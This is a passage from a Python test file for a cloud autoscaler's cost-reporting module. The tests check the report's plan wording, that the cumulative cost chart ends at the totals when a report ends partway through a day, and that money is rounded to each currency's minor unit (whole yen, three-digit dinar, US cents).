    r = build_report(ReportInput(**{**inp.__dict__, "plan_stats": PlanStats(10, 2, 3, 1, 10)}))
    parsed = _Parsed()
    parsed.feed(render_html(r, charts=[]))
    assert "cannot fire" not in parsed.text("plans")
    assert "only on missing or stale data or a collapse of demand" in parsed.text("plans")


def test_cumulative_cost_chart_ends_at_the_totals_inside_a_day(policy):
    """F9: each day's cost was stepped in at the day's end, beyond a report ending inside it: the
    lines of a 2-hour report stayed at 0."""
    import matplotlib
    from matplotlib.figure import Figure

    drawn = []
    real = Figure.savefig

    def keep(fig, *a, **k):
        drawn.append([line for ax in fig.axes for line in ax.get_lines()])
        return real(fig, *a, **k)

    base = make_input(policy)
    r = build_report(ReportInput(**{**base.__dict__, "start": T0 + timedelta(hours=13),
                                    "end": T0 + timedelta(hours=15)}))
    from scaler.reporting import charts

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(Figure, "savefig", keep)
        with matplotlib.rc_context(charts.RC):
            charts.cost_chart(r)
    ends = {line.get_label(): line.get_ydata()[-1] for line in drawn[0]}
    assert ends["Ebbtide"] == pytest.approx(float(r.totals()["ebbtide"].total))
    xs = {pd.Timestamp(line.get_xdata()[-1]) for line in drawn[0] if line.get_label() == "Ebbtide"}
    assert xs == {pd.Timestamp(r.end).tz_convert("UTC").tz_localize(None)}


def test_money_is_rounded_to_the_currencys_minor_unit(policy, tmp_path):
    """JPY has no minor unit: lines, totals and the page are whole yen (the report had said
    "JPY 14,088.42", "rounded to the cent"); KWD has three digits (finance sweep, F12)."""
    def report_in(currency: str):
        cost = policy.cost.model_copy(update={"currency": currency, "cpu_core_hour": 4.7311})
        return build_report(replace(make_input(policy), cost=cost))

    yen = report_in("JPY")
    for s in PODS:
        for line in yen.daily[s].by_period().values():
            for part in (line.cpu, line.ram, line.egress, line.total):
                assert part == part.to_integral_value() and part.as_tuple().exponent == 0
    files = write_report(yen, tmp_path / "jpy")
    with open(files.csv, newline="", encoding="utf-8") as f:
        assert all("." not in r["total_cost"] for r in csv.DictReader(f))
    html = files.html.read_text(encoding="utf-8")
    assert format_money(yen.totals()["ebbtide"].total, "JPY") in html and "(1 JPY)" in html
    assert re.fullmatch(r"JPY \d{1,3}(,\d{3})*", format_money(yen.totals()["ebbtide"].total, "JPY"))
    dinar = report_in("KWD")
    assert all(line.total.as_tuple().exponent == -3 for line in dinar.daily["hpa"].by_period().values())
    assert format_money(Decimal("1.25"), "KWD") == "KWD 1.250"
    assert format_money(Decimal("1234.5"), "USD") == "$1,234.50"
